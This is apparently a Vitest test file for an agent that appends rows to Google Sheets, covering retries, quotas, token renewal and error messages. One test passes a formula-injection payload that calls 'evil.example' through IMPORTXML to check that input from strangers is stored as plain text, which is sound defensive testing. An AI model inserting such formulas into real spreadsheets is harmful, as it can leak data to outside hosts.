import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
import { simulateSheets } from '@rookery/simulators';
import { PermanentError, RateLimitedError, UserError, type JsonObject } from '@rookery/sdk';
import { loopbackNet, runAgent } from '@rookery/sdk/testing';
import { startGoogleWorld, type GoogleWorld } from '../google/test/google-world.js';
import { appendGoogleSheet } from './agent.js';

const sheets = simulateSheets();
const appendPath = "/v4/spreadsheets/sales-1/values/'Sales'!A1:append";
const id = 'sales-1';
let world: GoogleWorld;
let google: Awaited<ReturnType<GoogleWorld['credential']>>;

beforeAll(async () => {
  world = await startGoogleWorld([sheets]);
  google = await world.credential({ sheets: true });
});
beforeEach(() => {
  sheets.add({ id, sheets: { Sales: [['key', 'VIN', 'Price']], "Bob's": [] } });
  world.google.reset();
});
afterAll(() => world.google.stop());

const append = (options: JsonObject, payloads: readonly JsonObject[], attempts = 1, credential: object = google) =>
  runAgent(appendGoogleSheet, {
    options: { credential: 'google', spreadsheet: id, sheet: 'Sales', columns: [{ name: 'VIN', value: '{{ vin }}' }, { name: 'Price', value: '{{ price }}' }], ...options },
    net: loopbackNet(), credentials: { google: { ...google, ...credential } }, receive: payloads.map((payload) => ({ payload })), attempts,
  });
const calls = () => world.google.calls().filter(({ path }) => path !== '/token').map(({ method, status }) => `${method} ${status}`);
const vins = () => sheets.rows(id, 'Sales').slice(1).map((row) => row[1]);

test('adds a batch in one call, reads nothing, keeps numbers, and says in which rows they are', async () => {
  const run = await append({}, [{ vin: 'A', price: 31000 }, { vin: 'B', price: 1.5 }]);
  expect(calls()).toEqual(['POST 200']);
  expect(sheets.rows(id, 'Sales')).toEqual([['key', 'VIN', 'Price'], [expect.stringContaining('append-google-sheet:'), 'A', 31000], [expect.any(String), 'B', 1.5]]);
  expect(run.emitted.map(({ payload }) => payload)).toEqual([{ spreadsheetId: id, sheet: 'Sales', row: 2 }, { spreadsheetId: id, sheet: 'Sales', row: 3 }]);
  expect(run.deliveries.map(({ status, reference }) => [status, reference])).toEqual([['delivered', 'sales-1:Sales:2'], ['delivered', 'sales-1:Sales:3']]);
});

test.each(['after effect', 'before effect'] as const)('adds each row once when the connection is cut %s', async (reset) => {
  world.google.inject({ on: appendPath, reset });
  const run = await append({}, [{ vin: 'A' }, { vin: 'B' }], 2);
  expect(run.deliveries.map(({ status }) => status)).toEqual(['unknown', 'unknown', 'delivered', 'delivered']);
  expect(vins()).toEqual(['A', 'B']);
  expect(run.emitted.map(({ payload }) => payload['row'])).toEqual([2, 3]);
});

test('writes what strangers wrote as text, never as a formula', async () => {
  await append({ keyColumn: false }, [{ vin: '=IMPORTXML("https://evil.example")', price: null }]);
  expect(sheets.rows(id, 'Sales').at(-1)).toEqual(['=IMPORTXML("https://evil.example")', '']);
});

test('finds a sheet whose title needs quotes, and one given by its address', async () => {
  const run = await append({ spreadsheet: `https://docs.google.com/spreadsheets/d/${id}/edit#gid=1`, sheet: "Bob's" }, [{ vin: 'A' }]);
  expect(run.deliveries[0]?.status).toBe('delivered');
  expect(sheets.rows(id, "Bob's")).toHaveLength(1);
});

test('waits when the quota is used up, and loses no row', async () => {
  world.google.inject({ on: appendPath, status: 429, body: { error: { code: 429, message: 'Quota exceeded', status: 'RESOURCE_EXHAUSTED' } } });
  const run = await append({}, [{ vin: 'A' }], 2);
  expect(run.deliveries[0]?.error).toBeInstanceOf(RateLimitedError);
  expect(run.deliveries[0]?.error).toMatchObject({ bucket: 'google:sheets:write:project/rookery@project.iam.gserviceaccount.com', retryAfterMs: 20_000 });
  expect(vins()).toEqual(['A']);
});

test('renews a token that Google rejects, once, and goes on', async () => {
  const { accessToken } = await world.credential({ sheets: true });
  const run = await append({}, [{ vin: 'A' }], 1, { accessToken: 'ya29.old', renewedToken: accessToken });
  expect([run.deliveries[0]?.status, calls()]).toEqual(['delivered', ['POST 401', 'POST 200']]);
});

test('asks for a new connection when no token is taken', async () => {
  const run = await append({}, [{ vin: 'A' }], 3, { accessToken: 'ya29.old', renewedToken: 'ya29.older' });
  expect(run.deliveries).toHaveLength(1);
  expect(run.deliveries[0]?.error).toBeInstanceOf(UserError);
  expect(run.deliveries[0]?.error?.message).toContain('open it under Credentials and connect it again');
});

test.each([
  ['is not there', { spreadsheet: 'nothing-here' }, 'Google: Requested entity was not found.; share it with the account of the credential'],
  ['has no such sheet', { sheet: 'Gone' }, "Google: Unable to parse range: 'Gone'!A1"],
])('gives up on a spreadsheet that %s, and says what to do', async (_what, options, message) => {
  const run = await append(options, [{ vin: 'A' }], 3);
  expect(run.deliveries).toHaveLength(1);
  expect(run.deliveries[0]?.error).toBeInstanceOf(PermanentError);
  expect(run.deliveries[0]?.error?.message).toBe(message);
});

test('says that a service was not consented to', async () => {
  const run = await append({}, [{ vin: 'A' }], 1, await world.credential({ chat: true }));
  expect(run.deliveries[0]?.error?.message).toBe('Google: Request had insufficient authentication scopes.; the credential "google" was not connected for this service: tick it under Credentials and connect again');
});

test('gives up on one value that no cell can hold, and adds the others', async () => {
  const run = await append({}, [{ vin: 'a'.repeat(50_001) }, { vin: 'B' }]);
  expect(run.deliveries.map(({ status }) => status).toSorted()).toEqual(['dead', 'delivered']);
  expect(vins()).toEqual(['B']);
});

test('lets a call last a second, so that what comes meanwhile goes with the next', async () => {
  const run = await append({}, Array.from({ length: 401 }, (_, index) => ({ vin: String(index) })));
  expect(calls()).toHaveLength(3);
  expect(run.snapshot.now - Date.UTC(2026, 0, 5, 9)).toBeGreaterThanOrEqual(3_000);
  expect(vins()).toHaveLength(401);
});
